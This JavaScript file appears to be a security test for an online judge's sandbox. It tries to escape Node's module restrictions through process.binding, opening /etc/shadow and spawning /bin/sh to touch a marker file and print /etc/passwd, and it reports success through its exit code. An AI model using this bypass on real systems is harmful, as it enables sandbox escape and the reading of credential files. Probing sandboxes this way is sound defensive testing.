// attack: Node's internal bindings, past the public modules:
//   process.binding('fs') opens /etc/shadow without the fs module, then
//   process.binding('spawn_sync') runs /bin/sh without child_process. If the
//   file opens or the shell runs, it says so on stderr and exits 42 (RE).
// verdicts: SV
let escaped = false;
try {
  const fs = process.binding('fs');
  const fd = fs.open('/etc/shadow', 0, 0);
  process.stderr.write('opened /etc/shadow: ' + fd + '\n');
  escaped = true;
} catch (e) {
  process.stderr.write('fs binding: ' + e.message + '\n');
}
try {
  const spawnSync = process.binding('spawn_sync');
  const r = spawnSync.spawn({
    file: '/bin/sh',
    args: ['sh', '-c', 'touch /tmp/judge-attack-pwned; cat /etc/passwd >&2; exit 7'],
    envPairs: [],
    stdio: [{ type: 'ignore' }, { type: 'inherit', fd: 1 }, { type: 'inherit', fd: 2 }],
  });
  process.stderr.write('spawn_sync: ' + JSON.stringify(r) + '\n');
  if (r.status === 7) escaped = true;
} catch (e) {
  process.stderr.write('spawn_sync: ' + e.message + '\n');
}
console.log(0);
process.exit(escaped ? 42 : 3);
